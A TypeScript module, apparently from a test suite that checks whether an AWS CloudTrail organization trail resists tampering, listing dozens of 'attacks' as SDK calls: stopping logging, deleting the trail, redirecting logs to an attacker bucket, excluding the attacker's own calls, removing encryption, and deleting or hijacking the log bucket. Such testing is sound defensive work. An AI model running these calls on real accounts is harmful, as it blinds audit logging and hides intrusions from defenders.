import {
  AddTagsCommand,
  type AdvancedEventSelector,
  DeleteTrailCommand,
  DeregisterOrganizationDelegatedAdminCommand,
  type EventSelector,
  PutEventConfigurationCommand,
  PutEventSelectorsCommand,
  PutInsightSelectorsCommand,
  RegisterOrganizationDelegatedAdminCommand,
  RemoveTagsCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
  type UpdateTrailCommandInput,
} from '@aws-sdk/client-cloudtrail';
import { DeleteServiceLinkedRoleCommand } from '@aws-sdk/client-iam';
import { DisableAWSServiceAccessCommand } from '@aws-sdk/client-organizations';
import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteBucketPolicyCommand,
} from '@aws-sdk/client-s3';
import type { Attack } from './attack.ts';
import { arnPrefix } from './home.ts';
import { keyAttacks } from './key-attacks.ts';
import { logAttacks } from './log-attacks.ts';
import { delegate, outsider, outsidersKey } from './seed.ts';
import { serviceLinkedRoleName } from './service-linked-role.ts';
import { topicAttacks } from './topic-attacks.ts';

/** The trail's data events, as a basic and as an advanced event selector. */
const withObjects = { DataResources: [{ Type: 'AWS::S3::Object', Values: [`${arnPrefix}:s3`] }] };
const objects: AdvancedEventSelector = {
  FieldSelectors: [
    { Field: 'eventCategory', Equals: ['Data'] },
    { Field: 'resources.type', Equals: ['AWS::S3::Object'] },
  ],
};

/** Each way to weaken a trail by calls to CloudTrail or Organizations. */
export const attacks: readonly Attack[] = [
  {
    id: 'A1',
    title: 'stops logging',
    call: ({ cloudtrail }, Name) => cloudtrail.send(new StopLoggingCommand({ Name })),
  },
  {
    id: 'A2',
    title: 'deletes the trail',
    as: 'root',
    call: ({ cloudtrail }, Name) => cloudtrail.send(new DeleteTrailCommand({ Name })),
  },
  update('A3', 'redirects log files to another bucket', { S3BucketName: 'attacker-bucket' }),
  update('A4', 'adds a key prefix', { S3KeyPrefix: 'no one/looks/here' }),
  update('A5', 'records one Region only', { IsMultiRegionTrail: false }),
  update('A6', 'stops recording global services such as IAM', {
    IsMultiRegionTrail: false,
    IncludeGlobalServiceEvents: false,
  }),
  update('A7', 'disables log file validation', { EnableLogFileValidation: false }),
  update('A8a', 'encrypts log files with a foreign KMS key', {
    KmsKeyId: outsidersKey,
  }),
  { ...update('A8b', 'removes the KMS key', { KmsKeyId: '' }), as: 'sso-mallory' },
  update('A9', 'disconnects CloudWatch Logs', {
    CloudWatchLogsLogGroupArn: '',
    CloudWatchLogsRoleArn: '',
  }),
  update('A10', 'removes the SNS topic', { SnsTopicName: '' }),
  update('A11', 'stops recording member accounts', { IsOrganizationTrail: false }),
  update('A12', 'enables recursive logging', { RecursiveLogging: true }),
  select('A13', 'records nothing at all', [
    {
      IncludeManagementEvents: false,
      DataResources: [{ Type: 'AWS::S3::Object', Values: [] }],
    },
  ]),
  select('A14a', 'records read events only', [{ ReadWriteType: 'ReadOnly', ...withObjects }]),
  select('A14b', 'records write events only', [{ ReadWriteType: 'WriteOnly', ...withObjects }]),
  select('A15', 'excludes KMS events', [
    { ...withObjects, ExcludeManagementEventSources: ['kms.amazonaws.com'] },
  ]),
  selectAdvanced('A16a', 'excludes her own calls', [
    {
      FieldSelectors: [
        { Field: 'eventCategory', Equals: ['Management'] },
        { Field: 'userIdentity.arn', NotEquals: [`${arnPrefix}:iam::111122223333:user/mallory`] },
      ],
    },
    objects,
  ]),
  selectAdvanced('A16b', 'excludes management events', [objects]),
  select('A17', 'stops recording S3 data events', [{ IncludeManagementEvents: true }]),
  {
    id: 'A18',
    title: 'disables Insights',
    call: ({ cloudtrail }, TrailName) =>
      cloudtrail.send(new PutInsightSelectorsCommand({ TrailName, InsightSelectors: [] })),
  },
  {
    id: 'A19',
    title: 'disables event aggregation',
    call: ({ cloudtrail }, TrailName) =>
      cloudtrail.send(
        new PutEventConfigurationCommand({ TrailName, AggregationConfigurations: [] }),
      ),
  },
  {
    id: 'A20a',
    title: 'removes a tag',
    as: 'role-mallory',
    call: ({ cloudtrail }, ResourceId) =>
      cloudtrail.send(
        new RemoveTagsCommand({ ResourceId, TagsList: [{ Key: 'owner', Value: 'security' }] }),
      ),
  },
  {
    id: 'A20b',
    title: 'changes a tag',
    call: ({ cloudtrail }, ResourceId) =>
      cloudtrail.send(
        new AddTagsCommand({ ResourceId, TagsList: [{ Key: 'owner', Value: 'mallory' }] }),
      ),
  },
  {
    id: 'F1',
    title: "disables CloudTrail's trusted access",
    call: ({ organizations }) =>
      organizations.send(
        new DisableAWSServiceAccessCommand({ ServicePrincipal: 'cloudtrail.amazonaws.com' }),
      ),
  },
  {
    id: 'F2',
    title: 'deregisters the delegated administrator',
    reportOnly: true,
    call: ({ cloudtrail }) =>
      cloudtrail.send(
        new DeregisterOrganizationDelegatedAdminCommand({ DelegatedAdminAccountId: delegate }),
      ),
  },
  {
    id: 'F3',
    title: 'registers another delegated administrator',
    reportOnly: true,
    call: ({ cloudtrail }) =>
      cloudtrail.send(
        new RegisterOrganizationDelegatedAdminCommand({ MemberAccountId: '333344445555' }),
      ),
  },
  {
    id: 'F4',
    title: "deletes the trail and CloudTrail's own role",
    async call({ cloudtrail, iam }, Name) {
      await cloudtrail.send(new DeleteTrailCommand({ Name }));
      await iam.send(new DeleteServiceLinkedRoleCommand({ RoleName: serviceLinkedRoleName }));
    },
  },
];

const bucket = { Bucket: 'org-trail-logs' };

/** Attacks on what the trail depends on. */
export const dependencyAttacks: readonly Attack[] = [
  {
    id: 'B1',
    title: 'deletes the bucket policy',
    as: delegate,
    reportOnly: true,
    call: ({ s3 }) => s3.send(new DeleteBucketPolicyCommand(bucket)),
  },
  {
    id: 'B3a',
    title: 'deletes the bucket',
    as: delegate,
    reportOnly: true,
    call: ({ s3 }) => s3.send(new DeleteBucketCommand(bucket)),
  },
  {
    id: 'B3b',
    title: 'recreates the bucket in her own account',
    as: delegate,
    reportOnly: true,
    async call({ s3, as }) {
      await s3.send(new DeleteBucketCommand(bucket));
      await as(outsider.accountId).s3.send(new CreateBucketCommand(bucket));
    },
  },
  ...keyAttacks,
  ...topicAttacks,
  ...logAttacks,
];

function update(id: string, title: string, patch: Omit<UpdateTrailCommandInput, 'Name'>): Attack {
  const call: Attack['call'] = ({ cloudtrail }, Name) =>
    cloudtrail.send(new UpdateTrailCommand({ Name, ...patch }));
  return { id, title, call };
}

function select(id: string, title: string, EventSelectors: EventSelector[]): Attack {
  const call: Attack['call'] = ({ cloudtrail }, TrailName) =>
    cloudtrail.send(new PutEventSelectorsCommand({ TrailName, EventSelectors }));
  return { id, title, call };
}

function selectAdvanced(
  id: string,
  title: string,
  AdvancedEventSelectors: AdvancedEventSelector[],
): Attack {
  const call: Attack['call'] = ({ cloudtrail }, TrailName) =>
    cloudtrail.send(new PutEventSelectorsCommand({ TrailName, AdvancedEventSelectors }));
  return { id, title, call };
}
